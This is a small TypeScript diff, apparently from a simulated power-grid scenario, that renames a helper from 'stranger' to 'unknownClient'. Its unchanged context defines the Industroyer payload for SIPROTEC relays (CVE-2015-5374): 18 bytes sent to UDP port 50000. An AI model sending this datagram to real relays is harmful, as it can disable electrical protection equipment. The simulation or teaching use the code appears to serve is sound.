@@ -1,9 +1,9 @@
 import { Connection } from '../../network/connection.ts'
 import { milliseconds } from '../../network/scheduler.ts'
-import { power, relays, stranger } from '../site.ts'
+import { power, relays, unknownClient } from '../site.ts'
 import { defineStep } from '../step.ts'
 
-const laptop = stranger(power)
+const laptop = unknownClient(power)
 /** What Industroyer sent to SIPROTEC relays (CVE-2015-5374): 18 bytes to UDP 50000. */
 const PORT = 50_000
 const DATAGRAM = Uint8Array.of(0x11, 0x49, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x28, 0x9e)
